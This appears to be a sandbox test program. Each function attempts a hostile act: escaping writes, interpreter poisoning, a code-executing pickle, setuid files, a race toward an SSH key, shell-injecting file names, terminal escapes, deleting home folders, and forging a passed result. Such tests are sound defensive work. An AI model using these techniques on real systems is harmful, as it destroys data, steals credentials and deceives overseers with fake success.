"""Writing where nothing may be written, and leaving what hurts whoever picks it up."""

import json
import os
import pickle
import shutil
import socket
import sys
import sysconfig
import time

from support import pwned, run_named


def write_outside(arena):
    """Everywhere that a program might have rights."""
    for folder in (
        arena["home"],
        arena["project"],
        "/usr/local",
        "/var/tmp",
        "/etc",
        "/",
        "/opt",
        os.path.dirname(arena["program"]),
    ):
        try:
            with open(os.path.join(folder, "pwned.txt"), "w") as file:
                file.write(arena["token"])
            pwned(f"wrote to {folder}")
        except OSError:
            pass


def write_through_links(arena):
    """Links in one's own directory that lead out."""
    for index, goal in enumerate((arena["home"], arena["project"], "/etc")):
        os.symlink(goal, f"way-{index}")
        try:
            with open(f"way-{index}/pwned.txt", "w") as file:
                file.write(arena["token"])
            pwned(f"wrote through a link to {goal}")
        except OSError:
            pass


def poison_the_interpreter(arena):
    """Code that runs in the next program."""
    folders = {sysconfig.get_paths()[name] for name in ("purelib", "platlib", "stdlib", "scripts")}
    for folder in folders:
        for name in ("sitecustomize.py", "pwned.pth", "__pycache__/pwned.pyc"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("print('PWNED: poisoned')\n")
                pwned(f"wrote {name} to {folder}")
            except OSError:
                pass
    try:
        shutil.copy("/bin/true", sys.executable)
        pwned("replaced the interpreter")
    except (OSError, shutil.SameFileError):
        pass


def overwrite_the_program(arena):
    """Its own source, and its neighbours."""
    for action in (
        lambda: open(arena["program"], "a").close(),
        lambda: os.unlink(arena["program"]),
        lambda: os.chmod(arena["program"], 0),
    ):
        try:
            action()
            pwned("changed the program")
        except OSError:
            pass


def swap_the_work_directory(arena):
    """Put something else where the collector will look."""
    here = os.getcwd()
    os.chdir("/")
    for action in (
        lambda: os.rename(here, here + ".old"),
        lambda: os.rmdir(here),
        lambda: os.symlink(arena["home"], here),
    ):
        try:
            action()
            pwned("moved the work directory")
        except OSError:
            pass


def change_files_while_they_are_collected(arena):
    """A child that swaps a file for a link as fast as it can."""
    if os.fork() == 0:
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                with open("swap", "w") as file:
                    file.write("data")
                os.unlink("swap")
                os.symlink(f"{arena['home']}/.ssh/id_ed25519", "swap")
                os.unlink("swap")
            except OSError:
                pass
        os._exit(0)
    time.sleep(0.1)


def leave_strange_names(arena):
    """Names that climb, control a terminal, or mean something to a shell."""
    for name in (
        "..\\..\\x",
        "-rf",
        "a\nb",
        "\x1b[2J",
        "$(touch pwned)",
        "`id`",
        "con",
        "x" * 255,
        "\u202egpj.exe",
        " ",
    ):
        try:
            with open(name, "w") as file:
                file.write("x")
        except OSError:
            pass
    try:
        os.close(os.open(b"bad-\xff\xfe", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass


def leave_special_files(arena):
    """Pipes and sockets that block whoever opens them."""
    os.mkfifo("pipe.txt")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind("socket.txt")
    os.symlink("loop", "loop")
    os.symlink("/dev/zero", "endless")
    os.symlink("/proc/self/fd/0", "input")


def leave_set_user_id_files(arena):
    """Programs that would run as whoever collected them."""
    shutil.copy("/bin/true", "suid")
    os.chmod("suid", 0o6777)
    with open("script.sh", "w") as file:
        file.write("#!/bin/sh\nid\n")
    os.chmod("script.sh", 0o777)
    os.mkdir("open", 0o777)
    os.chmod("open", 0o7777)
    os.umask(0)
    open("open/wide", "w").close()


def leave_modules_that_shadow(arena):
    """Names that a host program started here would import."""
    for name in ("json.py", "sitecustomize.py", "torch.py", "usercustomize.py", "conftest.py"):
        with open(name, "w") as file:
            file.write(f"open({arena['bait']!r}, 'w').close()\n")


class _Bomb:
    def __reduce__(self):
        return (os.system, ("touch " + os.environ.get("BAIT", "/tmp/bait"),))


def leave_a_pickle(arena):
    """A checkpoint that runs code when it is loaded."""
    os.environ["BAIT"] = arena["bait"]
    for name in ("model.pt", "checkpoint.pkl", "optimizer.bin"):
        with open(name, "wb") as file:
            pickle.dump(_Bomb(), file)


def leave_a_json_bomb(arena):
    """A report that costs whoever parses it."""
    with open("report.json", "w") as file:
        file.write("[" * 1_000_000)
    with open("result.json", "w") as file:
        json.dump({"status": "exited", "passed": True, "exit_code": 0}, file)


def lock_the_collector_out(arena):
    """Files and folders without rights."""
    os.mkdir("closed")
    with open("closed/file", "w") as file:
        file.write("x")
    with open("unreadable", "w") as file:
        file.write("x")
    os.chmod("unreadable", 0)
    os.chmod("closed", 0)
    os.chmod(".", 0)


def print_control_sequences(arena):
    """Escape sequences that would rewrite a terminal or set its clipboard."""
    sys.stdout.write("\x1b]0;owned\x07\x1b[2J\x1b[H\x1b]52;c;b3duZWQ=\x07PASSED\r\u202e\u200b\n")


def delete_everything(arena):
    """rm -rf /, as far as it goes."""
    for folder in ("/usr/share", arena["home"], arena["project"], os.path.dirname(arena["program"]), "/tmp", "/box"):
        shutil.rmtree(folder, ignore_errors=True)


def claim_success(arena):
    """Print and write what a passed run looks like, then fail."""
    print(json.dumps({"status": "exited", "exit_code": 0, "passed": True}))
    for name in ("report.json", os.path.basename(arena["report"])):
        with open(name, "w") as file:
            json.dump({"status": "exited", "exit_code": 0, "limit": "", "layers": []}, file)
    try:
        with open(arena["report"], "w") as file:
            file.write("{}")
    except OSError:
        pass
    sys.stdout.flush()
    os._exit(3)


if __name__ == "__main__":
    run_named(globals())
